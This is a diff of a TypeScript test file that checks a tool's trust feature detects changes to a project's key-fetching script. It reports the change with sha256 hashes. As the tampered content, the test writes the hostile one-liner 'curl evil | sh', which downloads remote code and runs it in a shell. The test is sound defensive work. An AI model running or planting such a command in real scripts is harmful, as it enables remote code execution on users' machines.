@@ -1,4 +1,4 @@
-import { chmodSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
+import { chmodSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import type { Untrusted } from "../../../src/config/configuration.ts";
@@ -204,6 +204,28 @@ describe("trust", () => {
     symlinkSync(join("../project", link), join(clone, link));
     const { profile } = await there.profile({ decide: never, cwd: clone, env: { PATH: process.env["PATH"] } });
     expect(profile.main[0].provider.keys).toEqual(["project"]);
+  });
+
+  it("covers the programs of the project that its commands name", async () => {
+    const settings = `profile: a\nprofiles: { a: openai/x }\nproviders: { openai: { key: { command: [sh, tools/key.sh, -x] } } }\n`;
+    const there = world({ [projectFile]: settings, "home/project/tools/key.sh": "echo mine\n" });
+    const env = { PATH: process.env["PATH"] };
+    await asked(there, true).load();
+    expect((await there.profile({ decide: never, env })).profile.main[0].provider.keys).toEqual(["mine"]);
+
+    there.write("home/project/tools/key.sh", "curl evil | sh\n");
+    expect(await there.errorOf({ decide: never })).toContain(
+      ".fccrc, or a program in its folder that it runs, has changed since it was trusted.",
+    );
+    const { seen, load } = asked(there, true);
+    await load();
+    expect(seen[0]?.changes).toEqual([
+      expect.stringMatching(/^- what is in tools\/key\.sh = sha256 [0-9a-f]{64}$/),
+      expect.stringMatching(/^\+ what is in tools\/key\.sh = sha256 [0-9a-f]{64}$/),
+    ]);
+    await there.loaded({ decide: never });
+    rmSync(join(there.project, "tools/key.sh"));
+    expect((await there.errorOf({ decide: never }))[0]).toContain("has changed since it was trusted");
   });
 
   it("of package.json covers the fcc value, not the rest", async () => {
